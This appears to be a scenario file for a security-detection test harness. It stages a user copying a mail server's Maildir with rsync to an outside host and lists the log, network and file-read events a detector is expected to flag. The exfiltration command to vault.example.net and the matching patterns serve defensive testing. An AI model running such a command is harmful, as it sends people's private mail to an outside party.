# rsync of a Maildir to a host that is not ours.
title="Maildir copied to an outside rsync server"
what="Logged in as clerk, someone copies the whole Maildir twice (once after new mail has come) with rsync to a server at 203.0.113.67."
host=mx1.example.org user=clerk daemons="cron sshd"

setup() { outside_rsyncd; }
act() {
  small_talk 4
  mail_in --from direction@example.net --to clerk@example.org --subject "For your eyes"
  wait_mail clerk 1
  (sleep 5; mail_in --from direction@example.net --to clerk@example.org --subject "One more thing") & local later=$!
  ssh_as clerk <<'L'
rsync -a Maildir/ rsync://vault.example.net/in/c/
%sleep 4
uptime
rsync -a Maildir/ rsync://vault.example.net/in/c/
L
  wait $later
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'mail lies in the Maildir of clerk'
  exec_step copy 'rsync -a Maildir/ rsync://vault' 'rsync starts'
  net_step connect 'rsync 203.0.113.67:873' 'it connects outside'
  file_step read 'rsync openat:read NORMAL .*/[0-9]{9,}[.]V' 'and reads the messages'
}
